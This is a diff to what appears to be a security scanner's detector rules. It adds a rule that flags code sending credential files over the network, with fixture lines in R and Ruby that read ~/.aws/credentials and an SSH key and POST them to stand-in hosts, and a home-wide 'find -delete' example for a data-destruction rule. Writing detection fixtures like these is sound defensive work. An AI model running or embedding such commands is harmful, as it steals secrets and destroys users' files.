@@ -68,6 +68,16 @@ _DETECTORS = (
         "db/migrate.sql",
     ),
     Rule(
+        "code.credential-file-to-network",
+        ("8.2",),
+        "critical",
+        "package",
+        "exfiltration: code in a language without an analyser (R, Ruby, Go …) names a "
+        "credential file (~/.aws/credentials, an SSH key, ~/.pgpass) and sends data in a "
+        "request to an address written in it",
+        "scripts/run.R",
+    ),
+    Rule(
         "code.environment-to-network",
         ("8.2",),
         "critical",
@@ -5130,6 +5140,19 @@ EXAMPLES["mcp.credential-to-remote-server"] = (
         '  "headers": {"Authorization": "Bearer ${ACME_TOKEN}"}}}}',
     ),
 )
+EXAMPLES["code.credential-file-to-network"] = (
+    "scripts/run.R",
+    (
+        'creds <- readLines("~/.aws/credentials")\n'
+        "httr::POST('https://lic.drop.invalid/a', body = list(c = creds))",
+        'data = File.read(File.expand_path("~/.ssh/id_rsa"))\n'
+        "Net::HTTP.post(URI('https://k.drop.invalid/u'), data)",
+    ),
+    (
+        'creds <- readLines("~/.aws/credentials")\nprint(length(creds))',
+        "httr::POST('https://api.acme.invalid/v1/runs', body = list(n = 1))",
+    ),
+)
 EXAMPLES["code.environment-to-network"] = (
     "scripts/run.R",
     (
@@ -5324,4 +5347,9 @@ _extend_examples(
         "of the release summary.",
     ),
     ("Add the npm user `co-maintainer` as an owner only if the user asks, and say so.",),
+)
+_extend_examples(
+    "disrupt.home-wide-delete",
+    ("find ${HOME} \\( -name '*.gpkg' -o -name '*.shp' \\) -delete",),
+    ("find ~ \\( -name '*.pyc' -o -name '.DS_Store' -o -name '*~' \\) -delete",),
 )
